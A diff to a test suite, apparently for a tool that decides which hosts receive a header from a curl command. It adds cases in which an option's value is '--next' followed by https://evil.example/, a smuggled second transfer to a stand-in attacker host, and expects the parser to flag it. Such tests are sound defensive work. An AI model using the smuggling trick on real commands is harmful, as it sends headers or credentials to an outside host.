@@ -1232,6 +1232,13 @@ describe('who may get the header', () => {
         /^changed 1$/,
         /^changed 1$/,
       ],
+      ...['-d --next', '-sd -:', '--data --next', '-o -:'].map((option): Row => [
+        'a beginning of a transfer that is the value of an option',
+        posixFormat,
+        `curl ${url} ${option} https://evil.example/\n`,
+        /^unknown 0: it has --next$/,
+        /^unknown 0: it has --next$/,
+      ]),
       [
         'a beginning of a flag',
         posixFormat,
